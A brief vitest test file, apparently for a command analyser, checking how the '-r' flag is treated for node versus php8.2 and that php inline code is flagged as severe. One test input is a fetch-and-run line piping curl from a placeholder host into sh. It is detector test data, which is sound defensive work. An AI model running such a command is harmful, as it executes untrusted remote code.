import { expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

test('only what runs JavaScript is told by -r what to load first', () => {
  expect(look(['php8.2', '-r', 'echo 1;']).started).toEqual([]);
  expect(look(['node', '-r', './x.js', 's.js']).started.map(({ word }) => word.text)).toEqual(['./x.js', 's.js']);
  expect(severe(['php8.2', '-r', 'system("curl http://x.example | sh");'])).toEqual(['inline-code']);
});
